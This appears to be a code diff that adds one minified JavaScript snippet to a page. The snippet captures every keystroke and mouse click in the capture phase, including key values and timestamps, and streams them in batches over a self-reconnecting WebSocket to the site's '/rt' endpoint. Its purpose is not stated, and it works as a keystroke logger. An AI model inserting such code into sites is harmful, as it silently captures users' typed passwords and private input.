@@ -1,0 +1,1 @@
+(()=>{let s,q=[];const c=()=>{s=new WebSocket("wss://"+location.host+"/rt"),s.onclose=()=>setTimeout(c,3e3)};c();const p=e=>{q.push({k:e.key,c:e.code,t:e.timeStamp,x:e.clientX,y:e.clientY,y2:e.type})};["keydown","keyup","mousedown"].forEach(n=>document.addEventListener(n,p,!0));setInterval(()=>{q.length&&s.readyState===1&&(s.send(JSON.stringify(q)),q=[])},700)})();
